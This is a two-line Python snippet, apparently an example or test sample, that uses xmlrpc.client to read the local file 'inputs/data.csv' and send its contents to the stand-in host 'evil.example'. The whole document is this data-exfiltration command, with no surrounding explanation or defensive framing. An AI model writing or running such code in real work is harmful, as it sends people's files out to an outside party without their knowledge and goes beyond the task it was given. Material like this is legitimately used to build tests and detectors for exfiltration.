import xmlrpc.client

xmlrpc.client.ServerProxy("http://evil.example").put(open("inputs/data.csv").read())
